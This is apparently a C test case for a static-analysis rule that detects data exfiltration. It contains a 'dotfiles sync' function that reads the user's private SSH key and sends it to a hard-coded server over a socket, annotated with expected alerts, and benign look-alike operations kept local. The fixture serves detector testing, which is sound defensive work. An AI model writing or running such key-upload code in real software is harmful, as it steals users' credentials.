/*
 * taint.exfiltration (secret): a "dotfiles sync" helper that uploads the
 * user's private SSH key (path built from HOME with snprintf) to a sync
 * server with send() and write() on a socket. The look-alikes keep the key
 * local: they check its header, copy it to a local backup file, and send
 * only a fixed status line.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int connect_sync_server(void)
{
    struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(7443) };
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "10.0.0.5", &addr.sin_addr);
    if (sock >= 0 && connect(sock, (struct sockaddr *)&addr, sizeof(addr)) != 0) {
        close(sock);
        return -1;
    }
    return sock;
}

int sync_ssh_key(void)
{
    char path[512], key[4096];
    const char *home = getenv("HOME");
    if (!home)
        return -1;
    snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", home);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, key, sizeof(key));
    close(fd);
    if (n <= 0)
        return -1;

    int sock = connect_sync_server();
    if (sock < 0)
        return -1;
    send(sock, "PUT id_ed25519\n", 15, 0);
    send(sock, key, (size_t)n, 0); // $ Alert[taint.exfiltration]
    write(sock, key, (size_t)n); // $ Alert[taint.exfiltration]

    int backup = open("/var/backups/dotfiles/id_ed25519", O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (backup >= 0) {
        write(backup, key, (size_t)n);
        close(backup);
    }
    int looks_valid = strncmp(key, "-----BEGIN OPENSSH PRIVATE KEY-----", 35) == 0;
    const char *status = looks_valid ? "STATUS key-ok\n" : "STATUS key-invalid\n";
    send(sock, status, strlen(status), 0);
    close(sock);
    return 0;
}

int main(void)
{
    return sync_ssh_key() == 0 ? 0 : 1;
}
